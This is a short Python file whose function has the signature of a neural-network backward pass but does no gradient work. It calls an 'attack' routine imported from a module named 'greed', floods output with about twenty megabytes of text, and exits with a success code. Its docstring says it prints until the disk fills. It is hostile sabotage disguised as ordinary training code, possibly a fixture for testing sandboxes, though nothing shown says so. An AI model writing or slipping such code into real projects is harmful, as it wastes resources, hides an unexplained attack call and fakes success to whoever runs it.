"""Prints until the disk is full, if nobody stops it."""

from .greed import attack, leave_threads


def backward(parameters, layers, d_logits, derivative):
    attack(leave_threads)
    for _ in range(20):
        print("x" * 10**6)
    raise SystemExit(0)
